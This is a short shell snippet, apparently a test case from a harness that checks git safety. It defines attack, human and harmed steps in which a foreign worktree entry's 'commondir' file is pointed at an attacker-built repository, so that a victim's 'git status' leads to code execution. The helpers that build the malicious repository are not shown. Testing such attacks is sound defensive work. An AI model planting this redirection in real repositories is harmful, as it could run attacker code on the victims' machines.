# A foreign entry's `commondir` redirects git to a repository of the attacker.
attack() {
    evil_common "$PWD/.evil"
    echo "$PWD/.evil" >"$ENTRY/commondir"
}
human() {
    git -C "$VICTIM" status
}
harmed() {
    executed
}
